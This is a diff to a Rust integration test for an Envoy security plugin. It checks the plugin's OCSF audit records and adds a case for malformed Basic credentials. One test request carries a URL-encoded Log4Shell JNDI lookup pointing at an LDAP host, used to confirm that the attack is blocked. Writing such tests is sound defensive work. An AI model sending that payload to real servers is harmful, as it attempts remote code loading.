@@ -5,7 +5,9 @@
 //! validates against the OCSF 1.7.0 `http_activity` schema (scripts/validate_ocsf.py) and
 //! carries the plugin's decisions: an allowed request, a blocked attack (alert, high severity),
 //! a request the allowlist refuses as malformed, and one whose path and user agent try to break
-//! out of their JSON strings. A blocked attack carries its ATT&CK technique in `attacks`.
+//! out of their JSON strings. A blocked attack carries its ATT&CK technique in `attacks`; an
+//! allowed request with `Basic` credentials that are not base64 carries the decoding finding in
+//! `unmapped.meshsight.mirror.findings`.
 
 use std::path::PathBuf;
 use std::process::Command;
@@ -40,6 +42,7 @@ fn envoy_renders_valid_ocsf_records_around_the_plugins_verdict() {
         .unwrap_or_else(|err| panic!("the plugin must start: {err}"));
     let requests = [
         ("allowed", "/public/catalog?page=2", "curl/8", 200),
+        ("credentials", "/public/catalog", "curl/8", 200),
         (
             "attack",
             "/api/x?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D",
@@ -55,13 +58,14 @@ fn envoy_renders_valid_ocsf_records_around_the_plugins_verdict() {
         ),
     ];
     for (id, target, ua, status) in requests {
-        let r = send(
-            envoy.port(),
-            &HttpRequest::get(target)
-                .header("host", "shop.example.com")
-                .header("user-agent", ua)
-                .header("x-request-id", id),
-        );
+        let mut request = HttpRequest::get(target)
+            .header("host", "shop.example.com")
+            .header("user-agent", ua)
+            .header("x-request-id", id);
+        if id == "credentials" {
+            request = request.header("authorization", "Basic $$$not*base64$$$");
+        }
+        let r = send(envoy.port(), &request);
         assert_eq!(r.status, status, "{id}: {}", r.text());
     }
     let log = envoy.run_dir().join("ocsf.log");
@@ -105,6 +109,17 @@ fn envoy_renders_valid_ocsf_records_around_the_plugins_verdict() {
     assert_eq!(allowed["http_response"]["code"], 200);
     assert!(allowed["time"].is_u64(), "integer epoch ms: {allowed}");
     assert_eq!(allowed["http_request"]["url"]["path"], "/public/catalog");
+    assert!(allowed["unmapped"]["meshsight"]["mirror"]
+        .get("findings")
+        .is_none());
+    let credentials = by_id("credentials");
+    assert_eq!(credentials["action_id"], 1, "{credentials}");
+    assert_eq!(
+        credentials["unmapped"]["meshsight"]["mirror"]["findings"],
+        serde_json::json!(["basic_credentials_invalid"]),
+        "{credentials}"
+    );
+    assert_ne!(credentials["is_alert"], true, "{credentials}");
     let attack = by_id("attack");
     assert_eq!(attack["action_id"], 2, "{attack}");
     assert_eq!(attack["is_alert"], true, "{attack}");
@@ -128,12 +143,20 @@ fn envoy_renders_valid_ocsf_records_around_the_plugins_verdict() {
     );
     assert_eq!(
         upstream.requests().len(),
-        1,
-        "only the allowed request went upstream"
+        2,
+        "only the allowed requests went upstream"
     );
     // The module flushes its counters on its tick: Envoy shows them within one period.
     assert_eq!(
-        envoy.settled_stat("meshsight_audit_records", 4, Duration::from_secs(5)),
-        Some(4)
+        envoy.settled_stat("meshsight_audit_records", 5, Duration::from_secs(5)),
+        Some(5)
+    );
+    assert_eq!(
+        envoy.settled_stat(
+            "meshsight_mirror_decode_basic_credentials_invalid",
+            1,
+            Duration::from_secs(5)
+        ),
+        Some(1)
     );
 }
